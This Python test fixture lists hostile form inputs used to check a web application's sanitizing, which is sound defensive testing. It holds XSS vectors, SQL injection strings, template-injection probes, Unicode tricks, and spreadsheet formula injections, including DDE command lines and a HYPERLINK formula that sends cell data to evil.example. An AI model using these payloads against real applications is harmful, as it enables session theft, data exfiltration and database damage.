"""A corpus of hostile inputs, each named and filed under a category (tests/test_hostile_*.py send them).

Every payload but the oversize ones is at most 63 characters long, so that two of them, one per line, fit the
shortest free-text limit they go through (128 characters, an establishment's city), and keeps a visible character
once stripped, so that a form accepts it and the outputs can be checked. `raw` payloads are sent as they are in an
application/x-www-form-urlencoded body: percent-encoded bytes that are not UTF-8; `keeps` lists what must survive.
"""

from __future__ import annotations

from dataclasses import dataclass

OVERSIZE = 100_000  # characters


@dataclass(frozen=True)
class Payload:
    name: str
    category: str
    text: str = ""
    raw: str | None = None
    keeps: tuple[str, ...] = ()

    @property
    def oversize(self) -> bool:
        return len(self.text) >= OVERSIZE

    @property
    def expected(self) -> str:
        """What the application should store: the text without NUL characters (PostgreSQL refuses them)."""
        return self.text.replace("\x00", "")

    def __repr__(self) -> str:
        return f"<Payload {self.name}>"


def _p(category: str, name: str, text: str) -> Payload:
    return Payload(name=name, category=category, text=text)


PAYLOADS: tuple[Payload, ...] = (
    # Script elements, and markup that closes the context a value is written in.
    _p("script", "script-tag", '<script>alert("xss")</script>'),
    _p("script", "script-src", '<script src="https://evil.example/x.js"></script>'),
    _p("script", "script-mixed-case", "<ScRiPt >alert(String.fromCharCode(88,83,83))</ScRiPt >"),
    _p("script", "script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    _p("script", "close-contexts", "</textarea></title></script><script>alert(1)</script>"),
    # Breaking out of an attribute value.
    _p("attribute", "attr-double-quote", '" onmouseover="alert(1)" data-x="'),
    _p("attribute", "attr-single-quote", "' onfocus='alert(1)' autofocus x='"),
    _p("attribute", "attr-close-tag", '"><img src=x onerror=alert(1)>'),
    _p("attribute", "attr-style-overlay", '" style="position:fixed;inset:0;background:red" x="'),
    # Other markup: images, frames, forms, redirections, comments, parser switches, entities.
    _p("html", "img-onerror", "<img src=x onerror=alert(1)>"),
    _p("html", "iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">'),
    _p("html", "form-phishing", "<form action=//evil.example><input type=password name=pw>"),
    _p("html", "base-and-refresh", "<base href=//evil.example><meta http-equiv=refresh content=0>"),
    _p("html", "comment-open", "<!-- tout ce qui suit disparaît"),
    _p("html", "plaintext", "<plaintext>la suite de la page en texte brut"),
    _p("html", "link-phishing", '<a href="https://evil.example/">Cliquez ici</a>'),
    _p("html", "entities", "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x3C;b&#x3E;"),
    # URLs that run code (as a website, a Markdown link or a href).
    _p("url", "javascript-url", "javascript:alert(document.cookie)"),
    _p("url", "javascript-url-obfuscated", "\tjava\nscript:alert(1)"),
    _p("url", "data-url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    _p("url", "https-quote-break", 'https://exemple.fr/" onmouseover="alert(1)'),
    # Markdown constructs that nh3 must leave harmless in guides.
    _p("markdown", "md-javascript-link", "[Cliquez](javascript:alert(1))"),
    _p("markdown", "md-reference-link", "[Cliquez][x]\n\n[x]: javascript:alert(1)"),
    _p("markdown", "md-autolink", "<javascript:alert(1)>"),
    _p("markdown", "md-image-onerror", '![x](https://exemple.fr/x.png" onerror="alert(1))'),
    _p("markdown", "md-title-break", '[x](https://exemple.fr "a\\" onclick=\\"alert(1)")'),
    # SVG and MathML: foreign content, where the HTML parser's rules change.
    _p("svg-mathml", "svg-onload", "<svg onload=alert(1)>"),
    _p("svg-mathml", "svg-script", "<svg><script>alert(1)</script></svg>"),
    _p("svg-mathml", "svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>Clic</text></a>'),
    _p("svg-mathml", "svg-animate", "<svg><animate attributeName=href values=javascript:alert(1) />"),
    _p("svg-mathml", "math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    _p("svg-mathml", "math-href", '<math href="javascript:alert(1)"><mi>x</mi></math>'),
    # Template syntax (Jinja and others): must stay text.
    _p("template", "template-syntax", "{{ 7*7 }} {{ config.SECRET_KEY }} {% raw %} ${7*7} <%= 7 %>"),
    # SQL fragments.
    _p("sql", "sql-or", "' OR '1'='1' --"),
    _p("sql", "sql-drop", "'); DROP TABLE report; --"),
    _p("sql", "sql-union", '" UNION SELECT password_hash FROM user_account --'),
    _p("sql", "sql-like-wildcards", "%_%' OR email LIKE '%"),
    # Spreadsheet formulas (CSV injection): = + - @, tab and carriage return first.
    _p("formula", "formula-hyperlink", '=HYPERLINK("https://evil.example/?d="&A1;"Cliquez")'),
    _p("formula", "formula-dde", "+cmd|' /C calc'!A0"),
    _p("formula", "formula-minus", "-2+3+cmd|' /C calc'!A0"),
    _p("formula", "formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    _p("formula", "formula-tab", "\t=1+1"),
    _p("formula", "formula-carriage-return", "\r=1+1"),
    _p("formula", "formula-phone-number", "+33 6 12 34 56 78"),
    # What breaks a CSV row: the delimiter, quotes, line ends.
    _p("csv", "csv-row-breakers", 'a;"b";c\r\nd;e\n;f'),
    # Unicode: bidirectional overrides, invisible and combining characters, astral planes, separators.
    _p("unicode", "rtl-override", "facture\u202egnp.exe"),
    _p("unicode", "zero-width-javascript", "java\u200bscript:alert(1)"),
    _p("unicode", "zalgo", "Z\u0334\u0322\u0327a\u0337l\u0338g\u0335o\u0336 H\u0335\u0321ôpital"),
    _p("unicode", "astral-plane", "😀🏥💉 𝕏 𠜎"),
    _p("unicode", "line-separators", "a\u2028b\u2029c\u0085d"),
    _p("unicode", "bom-formula", "\ufeff=1+1"),
    # Control characters; NUL is stripped by the application.
    _p("control", "nul", "avant\x00après"),
    _p("control", "nul-script", "\x00<script>alert(1)</script>"),
    _p("control", "c0-controls", "a\x01\x02\x08\x0b\x0c\x1b[31mrouge\x7f"),
    # Bytes that are not UTF-8, percent-encoded in the body as a broken client would send them.
    Payload("utf8-bad-continuation", "invalid-utf8", raw="caf%C3%A9+%C3%28+fin", keeps=("café", "fin")),
    Payload("utf8-overlong-lt", "invalid-utf8", raw="%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
            keeps=("script", "alert(1)")),
    Payload("utf8-surrogate", "invalid-utf8", raw="%ED%A0%80+demi-paire", keeps=("demi-paire",)),
    Payload("utf8-latin1", "invalid-utf8", raw="H%F4pital+%E9t%E9", keeps=("pital",)),
    # 100 kB: every field answers with its length limit, in French, and keeps what was typed.
    _p("oversize", "oversize-ascii", "A" * OVERSIZE),
    _p("oversize", "oversize-markup", "<script>alert(1)</script>" * (OVERSIZE // 25)),
    _p("oversize", "oversize-multibyte", "é" * OVERSIZE),
)

FLOWING = tuple(p for p in PAYLOADS if not p.oversize)
OVERSIZED = tuple(p for p in PAYLOADS if p.oversize)
CATEGORIES = tuple(dict.fromkeys(p.category for p in PAYLOADS))

assert len(PAYLOADS) >= 50
assert len({p.name for p in PAYLOADS}) == len(PAYLOADS)
assert all(p.raw or (p.expected.strip() and len(p.text) <= 63) for p in FLOWING)
